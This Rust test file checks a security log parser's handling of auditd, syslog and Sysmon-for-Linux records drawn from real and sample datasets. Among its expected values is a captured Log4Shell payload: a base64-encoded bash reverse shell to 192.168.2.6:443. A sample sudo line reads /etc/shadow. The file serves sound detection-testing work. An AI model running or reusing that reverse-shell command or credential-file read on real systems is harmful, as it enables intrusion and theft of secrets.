//! Linux logs (`linux/`): auditd `audit.log` files with records joined by serial, syslog
//! (RFC 3164 / 5424, sshd/su/sudo parsed), exact counts per corpus file, field values of real
//! records, and bad input counted with reasons. (The loghub `*.csv` files are loghub's own
//! parse of the same lines and the `*.yaml` files dataset metadata: not logs.)

mod common;

use common::{decode_mem, decode_path};
use vigil_core::Value;
use vigil_core::corpus::corpus_path;
use vigil_ingest::Format;

/// Exact per-file (format, events, errors), counted once from the corpus. The auditd files
/// hold 2 and 1 execve events (6 records each); the Sentinel `Syslog` exports are NDJSON; every
/// loghub line (RFC 3164 without PRI, CRLF in `Linux_2k.log`) is one event.
const FILES: &[(&str, Format, u64, u64)] = &[
    ("loghub/Linux/Linux_2k.log", Format::Syslog, 2000, 0),
    ("loghub/OpenSSH/OpenSSH_2k.log", Format::Syslog, 2000, 0),
    (
        "otrf-security-datasets/sh_arp_cache_2020-11-10074812.log",
        Format::Auditd,
        2,
        0,
    ),
    (
        "otrf-security-datasets/sh_binary_padding_dd_2020-11-10081941.log",
        Format::Auditd,
        1,
        0,
    ),
    (
        "otrf-security-datasets/syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json",
        Format::Json,
        50,
        0,
    ),
    (
        "otrf-security-datasets/syslog_sysmon_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json",
        Format::Json,
        93,
        0,
    ),
];

fn linux() -> Option<std::path::PathBuf> {
    corpus_path("linux")
}

fn text<'a>(event: &'a vigil_core::Event, name: &str) -> Option<&'a str> {
    event
        .get_str(name)
        .and_then(Value::as_text)
        .map(|t| t.as_str())
}

fn list(event: &vigil_core::Event, name: &str) -> Vec<String> {
    match event.get_str(name) {
        Some(Value::List(items)) => items
            .iter()
            .map(|v| {
                v.as_text()
                    .map(|t| t.as_str().to_string())
                    .unwrap_or_default()
            })
            .collect(),
        Some(Value::Str(t)) => vec![t.as_str().to_string()],
        other => panic!("{name}: {other:?}"),
    }
}

#[test]
fn corpus_counts() {
    let Some(dir) = linux() else { return };
    for (rel, format, events, errors) in FILES {
        let d = decode_path(&dir.join(rel), 0);
        for e in &d.errors {
            eprintln!("  {e}");
        }
        assert_eq!(
            (d.stats.format, d.stats.events, d.stats.errors),
            (*format, *events, *errors),
            "{rel}"
        );
        assert_eq!(d.events.len() as u64, *events);
    }
}

#[test]
fn auditd_execve_joined_with_syscall() {
    let Some(dir) = linux() else { return };
    let d = decode_path(
        &dir.join("otrf-security-datasets/sh_arp_cache_2020-11-10074812.log"),
        0,
    );
    let e = &d.events[0];
    assert_eq!(e.logsource.product.as_deref(), Some("linux"));
    assert_eq!(e.logsource.service.as_deref(), Some("auditd"));
    assert_eq!(text(e, "serial"), Some("92733"));
    assert_eq!(
        list(e, "type"),
        ["SYSCALL", "EXECVE", "CWD", "PATH", "PATH", "PROCTITLE"]
    );
    // SYSCALL's a0 (a pointer) and EXECVE's a0 (argv[0]) both kept.
    assert_eq!(list(e, "a0"), ["558e251634a0", "arp"]);
    assert_eq!(list(e, "a1"), ["558e25162a50", "-a"]);
    assert_eq!(text(e, "exe"), Some("/usr/sbin/arp"));
    assert_eq!(text(e, "comm"), Some("arp"));
    assert_eq!(text(e, "SYSCALL"), Some("execve"));
    assert_eq!(text(e, "syscall"), Some("59"));
    assert_eq!(text(e, "cwd"), Some("/home/wardog"));
    assert_eq!(text(e, "key"), Some("(null)"));
    assert_eq!(
        list(e, "name"),
        ["/usr/sbin/arp", "/lib64/ld-linux-x86-64.so.2"]
    );
    // 617270002D61 = "arp\0-a".
    assert_eq!(text(e, "proctitle"), Some("arp -a"));
    assert_eq!(
        e.time.map(|t| t.to_string()).as_deref(),
        Some("2020-11-10T07:48:16.155Z")
    );
    assert_eq!(e.source.record_id, Some(1));
    assert_eq!(e.source.offset, Some(0));
    assert_eq!(text(&d.events[1], "proctitle"), Some("grep -v ^?"));

    let d = decode_path(
        &dir.join("otrf-security-datasets/sh_binary_padding_dd_2020-11-10081941.log"),
        0,
    );
    let e = &d.events[0];
    assert_eq!(list(e, "a1"), ["558e251641a0", "if=/dev/zero"]);
    assert_eq!(text(e, "proctitle"), Some("dd if=/dev/zero bs=1 count=1"));
}

/// Records of two events interleaved: each still joins with its own serial.
#[test]
fn auditd_interleaved_serials() {
    let log = "\
type=SYSCALL msg=audit(1610000000.123:10): arch=c000003e syscall=59 success=yes exe=\"/bin/a\" key=\"k1\"
type=SYSCALL msg=audit(1610000000.124:11): arch=c000003e syscall=59 success=yes exe=\"/bin/b\" key=\"k2\"
type=EXECVE msg=audit(1610000000.123:10): argc=1 a0=\"a\"
type=EXECVE msg=audit(1610000000.124:11): argc=2 a0=\"b\" a1=2D2D6F7074696F6E2077697468207370616365
type=PROCTITLE msg=audit(1610000000.123:10): proctitle=2F62696E2F610078
type=EOE msg=audit(1610000000.124:11):
";
    let d = decode_mem("audit.log", log.as_bytes());
    assert_eq!(d.stats.format, Format::Auditd);
    assert_eq!((d.stats.events, d.stats.errors), (2, 0));
    // 11 ends first (EOE), then 10 at the end of input.
    let (b, a) = (&d.events[0], &d.events[1]);
    assert_eq!(text(a, "exe"), Some("/bin/a"));
    assert_eq!(list(a, "type"), ["SYSCALL", "EXECVE", "PROCTITLE"]);
    assert_eq!(list(a, "a0"), ["a"]);
    assert_eq!(text(a, "proctitle"), Some("/bin/a x"));
    assert_eq!(text(b, "exe"), Some("/bin/b"));
    assert_eq!(list(b, "type"), ["SYSCALL", "EXECVE", "EOE"]);
    // Hex-encoded EXECVE argument (it has spaces).
    assert_eq!(text(b, "a1"), Some("--option with space"));
    assert_eq!(text(b, "key"), Some("k2"));
}

/// A malformed line between good ones: one counted error with its offset; the run continues
/// and the event around it still joins.
#[test]
fn auditd_malformed_line() {
    let log = "\
type=SYSCALL msg=audit(1610000000.123:10): syscall=59 exe=\"/bin/a\"
type=EXECVE msg=audit(1610000000.123): argc=1 a0=\"a\"
garbage line
type=PATH msg=audit(1610000000.123:10): item=0 name=\"/bin/a\" nametype=NORMAL
";
    let d = decode_mem("audit.log", log.as_bytes());
    assert_eq!((d.stats.events, d.stats.errors), (1, 2));
    assert!(
        d.errors[0].reason.contains("has no `:SERIAL`"),
        "{}",
        d.errors[0]
    );
    assert_eq!(d.errors[0].offset, Some(67));
    assert!(d.errors[1].reason.contains("does not start with `type=`"));
    assert_eq!(d.errors[1].record, Some(3));
    let e = &d.events[0];
    assert_eq!(list(e, "type"), ["SYSCALL", "PATH"]);
    assert_eq!(text(e, "nametype"), Some("NORMAL"));
}

/// Non-corpus sanity: a file that is not auditd keeps its format.
#[test]
fn auditd_sniff_needs_msg_audit() {
    let d = decode_mem("x.json", b"{\"type\":\"SYSCALL\"}\n");
    assert_eq!(d.stats.format, Format::Json);
}

fn line(d: &common::Decoded, record: u64) -> &vigil_core::Event {
    d.events
        .iter()
        .find(|e| e.source.record_id == Some(record))
        .unwrap_or_else(|| panic!("no line {record}"))
}

#[test]
fn syslog_sshd_real_records() {
    let Some(dir) = linux() else { return };
    let d = decode_path(&dir.join("loghub/OpenSSH/OpenSSH_2k.log"), 0);
    let e = line(&d, 6);
    assert_eq!(e.logsource.product.as_deref(), Some("linux"));
    assert_eq!(e.logsource.service.as_deref(), Some("sshd"));
    assert_eq!(text(e, "hostname"), Some("LabSZ"));
    assert_eq!(text(e, "program"), Some("sshd"));
    assert_eq!(text(e, "pid"), Some("24200"));
    assert_eq!(text(e, "timestamp"), Some("Dec 10 06:55:48"));
    assert_eq!(
        text(e, "msg"),
        Some("Failed password for invalid user webmaster from 173.234.31.186 port 38926 ssh2")
    );
    assert_eq!(text(e, "auth_result"), Some("failed"));
    assert_eq!(text(e, "auth_method"), Some("password"));
    assert_eq!(text(e, "user"), Some("webmaster"));
    assert_eq!(text(e, "src_ip"), Some("173.234.31.186"));
    assert_eq!(text(e, "src_port"), Some("38926"));
    assert_eq!(e.get_str("invalid_user"), Some(&Value::Bool(true)));
    // RFC 3164 has no year: no event time is guessed.
    assert_eq!(e.time, None);

    let e = line(&d, 29);
    assert_eq!(text(e, "user"), Some("root"));
    assert_eq!(text(e, "src_ip"), Some("5.36.59.76"));
    assert_eq!(e.get_str("invalid_user"), None);

    let e = line(&d, 2);
    assert_eq!(
        text(e, "msg"),
        Some("Invalid user webmaster from 173.234.31.186")
    );
    assert_eq!(text(e, "user"), Some("webmaster"));
    assert_eq!(text(e, "src_ip"), Some("173.234.31.186"));

    let accepted = d
        .events
        .iter()
        .filter(|e| text(e, "auth_result") == Some("accepted"))
        .collect::<Vec<_>>();
    assert_eq!(accepted.len(), 1);
    assert_eq!(text(accepted[0], "user"), Some("fztu"));
    assert_eq!(text(accepted[0], "src_ip"), Some("119.137.62.142"));
    let failed = d
        .events
        .iter()
        .filter(|e| {
            text(e, "auth_method") == Some("password") && text(e, "auth_result") == Some("failed")
        })
        .count();
    assert_eq!(failed, 518);
}

#[test]
fn syslog_linux_real_records() {
    let Some(dir) = linux() else { return };
    let d = decode_path(&dir.join("loghub/Linux/Linux_2k.log"), 0);
    // `sshd(pam_unix)`: program sshd, the pam fields.
    let e = line(&d, 1);
    assert_eq!(text(e, "appname"), Some("sshd(pam_unix)"));
    assert_eq!(text(e, "program"), Some("sshd"));
    assert_eq!(e.logsource.service.as_deref(), Some("sshd"));
    assert_eq!(text(e, "rhost"), Some("218.188.2.4"));
    assert_eq!(text(e, "auth_result"), Some("failed"));
    // CRLF line ends are not part of the message.
    assert!(text(e, "msg").unwrap().ends_with("rhost=218.188.2.4 "));
    let e = line(&d, 14);
    assert_eq!(e.logsource.service.as_deref(), Some("su"));
    assert_eq!(
        text(e, "msg"),
        Some("session opened for user cyrus by (uid=0)")
    );
    assert_eq!(text(e, "target_user"), Some("cyrus"));
    // Not a `tag:` line: all of it is the message, service syslog.
    let e = d
        .events
        .iter()
        .find(|e| text(e, "msg") == Some("syslogd 1.4.1: restart."))
        .unwrap();
    assert_eq!(e.get_str("program"), None);
    assert_eq!(e.logsource.service.as_deref(), Some("syslog"));
    let mut services = std::collections::BTreeMap::new();
    for e in &d.events {
        *services
            .entry(e.logsource.service.clone().unwrap())
            .or_insert(0) += 1;
    }
    assert_eq!(services.get("sshd"), Some(&677));
    assert_eq!(services.get("su"), Some(&172));
}

#[test]
fn syslog_5424_sudo_su_and_bad_lines() {
    // No RFC 5424 record in the corpus: RFC 5424's own examples, plus sudo and su lines.
    let log = "\
<34>1 2003-10-11T22:14:15.003Z mymachine.example.com su - ID47 - 'su root' failed for lonvick on /dev/pts/8
<165>1 2003-10-11T22:14:15.003Z mymachine.example.com evntslog - ID47 [exampleSDID@32473 iut=\"3\" eventSource=\"Application\" eventID=\"1011\"] \u{feff}An application event log entry...
this is not syslog
<13>Feb  5 17:32:18 host sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/cat /etc/shadow
Feb  5 17:32:19 host su[99]: FAILED SU (to root) bob on pts/1
<999>Feb  5 17:32:20 host x: bad pri
";
    let d = decode_mem("syslog", log.as_bytes());
    assert_eq!(d.stats.format, Format::Syslog);
    assert_eq!((d.stats.events, d.stats.errors), (4, 2));
    assert!(
        d.errors[0].reason.contains("line 3: not syslog"),
        "{}",
        d.errors[0]
    );
    assert_eq!(d.errors[0].record, Some(3));
    assert!(d.errors[1].reason.contains("PRI `999`"), "{}", d.errors[1]);

    let e = &d.events[0];
    assert_eq!(e.get_str("facility"), Some(&Value::Int(4)));
    assert_eq!(e.get_str("severity"), Some(&Value::Int(2)));
    assert_eq!(text(e, "hostname"), Some("mymachine.example.com"));
    assert_eq!(text(e, "appname"), Some("su"));
    assert_eq!(text(e, "msgid"), Some("ID47"));
    assert_eq!(e.get_str("pid"), None);
    assert_eq!(e.logsource.service.as_deref(), Some("su"));
    assert_eq!(
        text(e, "msg"),
        Some("'su root' failed for lonvick on /dev/pts/8")
    );
    assert_eq!(
        e.time.map(|t| t.to_string()).as_deref(),
        Some("2003-10-11T22:14:15.003Z")
    );

    let e = &d.events[1];
    assert_eq!(e.get_str("facility"), Some(&Value::Int(20)));
    assert_eq!(e.get_str("severity"), Some(&Value::Int(5)));
    assert_eq!(text(e, "exampleSDID@32473.eventID"), Some("1011"));
    assert_eq!(text(e, "msg"), Some("An application event log entry..."));
    assert_eq!(e.logsource.service.as_deref(), Some("syslog"));

    let e = &d.events[2];
    assert_eq!(e.logsource.service.as_deref(), Some("sudo"));
    assert_eq!(text(e, "user"), Some("alice"));
    assert_eq!(text(e, "tty"), Some("pts/0"));
    assert_eq!(text(e, "pwd"), Some("/home/alice"));
    assert_eq!(text(e, "target_user"), Some("root"));
    assert_eq!(text(e, "command"), Some("/bin/cat /etc/shadow"));

    let e = &d.events[3];
    assert_eq!(e.logsource.service.as_deref(), Some("su"));
    assert_eq!(text(e, "user"), Some("bob"));
    assert_eq!(text(e, "target_user"), Some("root"));
    assert_eq!(text(e, "auth_result"), Some("failed"));
    assert_eq!(text(e, "tty"), Some("pts/1"));
}

/// OTRF's Log4Shell capture: Sysmon for Linux events inside Sentinel `Syslog` records. Every
/// record decodes to its Sysmon fields, with the Sigma category of its EventID.
#[test]
fn sysmon_for_linux_in_sentinel_syslog() {
    let Some(dir) = linux() else { return };
    let d = decode_path(
        &dir.join(
            "otrf-security-datasets/syslog_sysmon_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json",
        ),
        0,
    );
    assert_eq!((d.stats.events, d.stats.errors), (93, 0));
    let mut by_category = std::collections::BTreeMap::new();
    for e in &d.events {
        assert_eq!(e.logsource.product.as_deref(), Some("linux"));
        assert_eq!(e.logsource.service.as_deref(), Some("sysmon"));
        assert_eq!(text(e, "Provider_Name"), Some("Linux-Sysmon"));
        *by_category
            .entry(e.logsource.category.clone().unwrap_or_default())
            .or_insert(0) += 1;
    }
    let want: Vec<(String, i32)> = [
        ("file_delete", 2),
        ("file_event", 4),
        ("network_connection", 6),
        ("process_creation", 31),
        ("process_termination", 50),
    ]
    .iter()
    .map(|(c, n)| (c.to_string(), *n))
    .collect();
    assert_eq!(by_category.into_iter().collect::<Vec<_>>(), want);

    // Record 8 (the payload below) was cut at 2,012 bytes inside its ParentCommandLine.
    let cut: Vec<u64> = d
        .events
        .iter()
        .filter(|e| e.get_str("sysmon_truncated").is_some())
        .filter_map(|e| e.source.record_id)
        .collect();
    assert_eq!(cut, [8]);

    // The first process creation: Tomcat's JVM running the Log4Shell payload.
    let e = d
        .events
        .iter()
        .find(|e| e.logsource.category.as_deref() == Some("process_creation"))
        .unwrap();
    assert_eq!(e.get_str("EventID"), Some(&Value::Int(1)));
    assert_eq!(text(e, "Image"), Some("/bin/bash"));
    assert_eq!(
        text(e, "CommandLine"),
        Some(
            "bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}"
        )
    );
    assert_eq!(
        text(e, "ParentImage"),
        Some("/usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java")
    );
    assert_eq!(text(e, "User"), Some("tomcat"));
    assert_eq!(text(e, "ProcessId"), Some("17790"));
    assert_eq!(text(e, "Computer"), Some("UBUNTU5"));
    assert_eq!(text(e, "Channel"), Some("Linux-Sysmon/Operational"));
    // The Sentinel envelope's own fields are kept.
    assert_eq!(text(e, "HostIP"), Some("192.168.2.5"));
    assert_eq!(text(e, "ProcessName"), Some("sysmon"));
    assert!(text(e, "SyslogMessage").is_some_and(|m| m.starts_with("<Event>")));
    assert_eq!(
        e.time.map(|t| t.to_string()).as_deref(),
        Some("2022-05-11T18:10:22.003485Z")
    );

    // A network connection: the reverse shell's address.
    let net: Vec<_> = d
        .events
        .iter()
        .filter(|e| e.logsource.category.as_deref() == Some("network_connection"))
        .collect();
    assert!(
        net.iter()
            .any(|e| text(e, "DestinationIp") == Some("192.168.2.6")
                && text(e, "DestinationPort") == Some("443")),
        "{:?}",
        net.iter()
            .map(|e| text(e, "DestinationIp"))
            .collect::<Vec<_>>()
    );
    // File events name the file.
    assert!(
        d.events
            .iter()
            .filter(|e| e.logsource.category.as_deref() == Some("file_event"))
            .all(|e| text(e, "TargetFilename").is_some())
    );
}

/// Sysmon for Linux as rsyslog writes it (`sysmon: <Event>…`), and broken XML counted with
/// the line, in syslog text and in a Sentinel record alike. (Self-made from the OTRF record's
/// XML: the first line is its EventID 1 message shortened; the others cut or break it.)
#[test]
fn sysmon_for_linux_syslog_lines_and_bad_xml() {
    let xml = r#"<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>1</EventID><Version>5</Version><TimeCreated SystemTime="2022-05-11T18:10:22.001232000Z"/><EventRecordID>245770</EventRecordID><Channel>Linux-Sysmon/Operational</Channel><Computer>UBUNTU5</Computer><Security UserId="0"/></System><EventData><Data Name="Image">/usr/bin/whoami</Data><Data Name="CommandLine">whoami</Data><Data Name="ParentImage">/bin/bash</Data><Data Name="User">tomcat</Data></EventData></Event>"#;
    // Cut short inside a value (as the syslog message size limit does), and before EventID.
    let cut = &xml[..xml.find("/bash").unwrap()];
    let early = &xml[..xml.find("<EventID>").unwrap()];
    let log = format!(
        "May 11 18:10:22 UBUNTU5 sysmon: {xml}\n\
         May 11 18:10:23 UBUNTU5 sysmon: {early}\n\
         May 11 18:10:24 UBUNTU5 sysmon: <Event><System><EventID>1</Sys></Event>\n\
         May 11 18:10:25 UBUNTU5 sysmon: Sysmon v1.0 started\n"
    );
    let d = decode_mem("syslog", log.as_bytes());
    assert_eq!((d.stats.events, d.stats.errors), (2, 2));
    assert_eq!(d.events[0].get_str("sysmon_truncated"), None);
    let e = &d.events[0];
    assert_eq!(
        e.logsource.to_string(),
        "product: linux, category: process_creation, service: sysmon"
    );
    assert_eq!(text(e, "Image"), Some("/usr/bin/whoami"));
    assert_eq!(text(e, "ParentImage"), Some("/bin/bash"));
    assert_eq!(text(e, "hostname"), Some("UBUNTU5"));
    assert_eq!(text(e, "program"), Some("sysmon"));
    // A plain sysmon line (not XML) stays a syslog event.
    assert_eq!(d.events[1].logsource.service.as_deref(), Some("syslog"));
    assert_eq!(d.errors[0].record, Some(2));
    assert!(
        d.errors[0]
            .reason
            .contains("line 2: Sysmon XML cut short at byte 92 before its <EventID>"),
        "{}",
        d.errors[0]
    );
    assert_eq!(d.errors[1].record, Some(3));
    assert!(
        d.errors[1]
            .reason
            .contains("line 3: Sysmon XML broken at byte"),
        "{}",
        d.errors[1]
    );

    // The same in Sentinel's JSON: the broken record is an error with its offset, the next
    // record still decodes.
    let record = |msg: &str| {
        serde_json::json!({"Computer": "UBUNTU5", "HostIP": "192.168.2.5", "ProcessName": "sysmon",
            "SyslogMessage": msg, "Type": "Syslog"})
        .to_string()
    };
    let json = format!("{}\n{}\n{}\n", record(early), record(xml), record(cut));
    let d = decode_mem("sentinel.json", json.as_bytes());
    assert_eq!((d.stats.events, d.stats.errors), (2, 1));
    assert_eq!(d.errors[0].offset, Some(0));
    assert!(
        d.errors[0]
            .reason
            .contains("record 1: Sysmon XML cut short"),
        "{}",
        d.errors[0]
    );
    assert_eq!(d.events[0].get_str("EventID"), Some(&Value::Int(1)));
    // A message cut inside a value keeps what it holds, flagged.
    let e = &d.events[1];
    assert_eq!(e.get_str("sysmon_truncated"), Some(&Value::Bool(true)));
    assert_eq!(text(e, "ParentImage"), Some("/bin"));
    assert_eq!(text(e, "CommandLine"), Some("whoami"));
}
